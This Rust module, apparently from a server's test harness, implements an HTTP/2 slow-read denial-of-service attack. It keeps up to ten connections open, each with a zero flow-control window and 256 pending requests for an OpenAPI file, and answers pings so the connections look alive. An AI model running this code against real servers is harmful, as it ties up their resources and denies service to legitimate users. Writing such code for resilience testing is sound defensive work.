//! Anonymous HTTP/2 clients that ask for documents and let nothing of them be sent.

use std::time::Duration;

use crate::elsewhere::Attacker;
use crate::frames::Frames;

const CONNECTIONS: usize = 10;
const STREAMS: usize = 256;

fn begun(attacker: &Attacker<'_>) -> Option<Frames> {
    let mut frames = Frames::over(attacker.connect()?, 0).ok()?;
    for _ in 0..STREAMS {
        frames.begin("GET", "/usm/openapi.yaml", false).ok()?;
    }
    Some(frames)
}

/// Four times this is the attack. How many connections were made.
pub fn attack(attacker: &Attacker<'_>) -> u64 {
    let (mut held, mut made) = (Vec::new(), 0);
    while attacker.goes_on() {
        // Pings are answered, so that nobody can be taken for gone.
        held.retain_mut(|frames: &mut Frames| {
            loop {
                match frames.next(Duration::from_millis(1)) {
                    Ok(None) => return true,
                    Ok(Some(_)) => {}
                    Err(_) => return false,
                }
            }
        });
        if held.len() < CONNECTIONS {
            made += 1;
            held.extend(begun(attacker));
        } else {
            attacker.pause(Duration::from_millis(50));
        }
    }
    made
}
